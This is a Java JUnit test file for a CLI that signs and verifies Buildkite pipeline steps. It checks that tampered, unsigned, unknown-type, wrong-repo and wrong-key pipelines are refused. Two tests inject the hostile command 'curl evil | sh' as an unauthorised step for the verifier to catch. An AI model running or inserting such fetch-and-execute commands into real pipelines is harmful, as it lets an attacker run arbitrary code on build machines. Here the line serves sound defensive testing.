package dev.signet.cli;

import static dev.signet.cli.Fixtures.PIPELINE;
import static dev.signet.cli.Fixtures.REPO;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PipelineVerifyCommandTest {
  @TempDir static Path shared;
  static Fixtures.Keys keys;
  static Path signed;

  @TempDir Path dir;

  @BeforeAll
  static void signPipeline() {
    keys = Fixtures.keygen(shared, "k");
    signed = Fixtures.sign(shared, keys, PIPELINE);
  }

  private Cli verify(Path file) {
    return Cli.run(
        "pipeline",
        "verify",
        file.toString(),
        "--jwks-file",
        keys.publicJwks().toString(),
        "--repo",
        REPO);
  }

  @Test
  void everySignedStepVerifies() {
    Cli r = verify(signed);
    assertThat(r.exitCode()).as(r.out() + r.err()).isZero();
    assertThat(r.out().lines())
        .containsExactly(
            "steps[0] \"build\": verified (EdDSA, key \"k\")",
            "steps[2].steps[0] \"test {{matrix.os}}\": verified (EdDSA, key \"k\")",
            "steps[4] \"deploy\": verified (EdDSA, key \"k\")",
            "3 verified, 0 unsigned, 0 invalid");
    assertThat(r.err()).isEmpty();
  }

  @Test
  void listsUnsignedAndInvalidStepsAndExits1() {
    String text = Fixtures.read(signed);
    // Tamper with one signed command and append an unsigned step.
    String tampered = text.replace("command: echo deployed", "command: echo pwned") + "";
    tampered =
        tampered.replaceFirst("(?m)^env:", "  - label: sneaky\n    command: curl evil | sh\nenv:");
    Path p = Fixtures.write(dir, "tampered.yml", tampered);
    Cli r = verify(p);
    assertThat(r.exitCode()).as(r.out() + r.err()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.out())
        .contains(
            "steps[0] \"build\": verified",
            "steps[4] \"deploy\": INVALID: ",
            "steps[5] \"sneaky\": UNSIGNED",
            "2 verified, 1 unsigned, 1 invalid");
    assertThat(r.err()).isEmpty();
  }

  @Test
  void aStepOfUnknownTypeIsListedAndRefused() {
    // Signing refuses it, because Buildkite might read it as a command; drift detection must not
    // pass a stored pipeline that has one.
    String text =
        Fixtures.read(signed).replaceFirst("(?m)^env:", "  - commandz: curl evil | sh\nenv:");
    Cli r = verify(Fixtures.write(dir, "unknown.yml", text));
    assertThat(r.exitCode()).as(r.out()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.out())
        .containsPattern("(?m)^steps\\[5\\] \\(line \\d+, column \\d+\\): UNKNOWN step type: ")
        .contains("3 verified, 0 unsigned, 0 invalid, 1 of unknown type");
  }

  @Test
  void aPipelineEnvChangeInvalidatesEveryStepThatSignedIt() {
    Path p =
        Fixtures.write(
            dir,
            "env.yml",
            Fixtures.read(signed).replace("DEPLOY_ENV: staging", "DEPLOY_ENV: production"));
    Cli r = verify(p);
    assertThat(r.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.out()).contains("0 verified, 0 unsigned, 3 invalid");
  }

  @Test
  void anotherRepositoryInvalidatesEveryStep() {
    Cli r =
        Cli.run(
            "pipeline",
            "verify",
            signed.toString(),
            "--jwks-file",
            keys.publicJwks().toString(),
            "--repo",
            "git@github.com:evil/widgets.git");
    assertThat(r.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.out()).contains("0 verified, 0 unsigned, 3 invalid");
  }

  @Test
  void anotherKeyRefusesEveryStep() {
    Fixtures.Keys other = Fixtures.keygen(dir, "other");
    Cli r =
        Cli.run(
            "pipeline",
            "verify",
            signed.toString(),
            "--jwks-file",
            other.publicJwks().toString(),
            "--repo",
            REPO);
    assertThat(r.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.out()).contains("INVALID: ", "0 verified, 0 unsigned, 3 invalid");
  }

  /**
   * A pipeline signed by {@code signet pipeline sign} verifies with Buildkite's EdDSA fixture key.
   */
  @Test
  void verifiesWithTheBuildkiteFixtureKey() {
    Path priv =
        Fixtures.write(
            dir, "fixture-private.json", BuildkiteVectors.jwks("EdDSA/TEST_DO_NOT_USE-private"));
    Path pub =
        Fixtures.write(
            dir, "fixture-public.json", BuildkiteVectors.jwks("EdDSA/TEST_DO_NOT_USE-public"));
    Path in = Fixtures.write(dir, "pipeline.yml", PIPELINE);
    Path out = dir.resolve("signed.yml");
    Cli s =
        Cli.run(
            "pipeline",
            "sign",
            in.toString(),
            "--jwks-file",
            priv.toString(),
            "--repo",
            REPO,
            "--output",
            out.toString());
    assertThat(s.exitCode()).as(s.err()).isZero();
    Cli r =
        Cli.run(
            "pipeline", "verify", out.toString(), "--jwks-file", pub.toString(), "--repo", REPO);
    assertThat(r.exitCode()).as(r.out()).isZero();
    assertThat(r.out())
        .contains("verified (EdDSA, key \"TEST_DO_NOT_USE\")", "3 verified, 0 unsigned, 0 invalid");
  }

  @Test
  void multiDocumentStreamsNameTheDocument() {
    Path in =
        Fixtures.write(
            dir,
            "multi.yml",
            "steps:\n  - command: echo one\n---\nsteps:\n  - command: echo two\n");
    Path out = dir.resolve("multi.signed.yml");
    Cli s =
        Cli.run(
            "pipeline",
            "sign",
            in.toString(),
            "--jwks-file",
            keys.privateJwks().toString(),
            "--repo",
            REPO,
            "--output",
            out.toString());
    assertThat(s.exitCode()).as(s.err()).isZero();
    Cli r = verify(out);
    assertThat(r.exitCode()).as(r.out()).isZero();
    assertThat(r.out())
        .contains(
            "document 1: steps[0] \"echo one\": verified",
            "document 2: steps[0] \"echo two\": verified");
  }
}
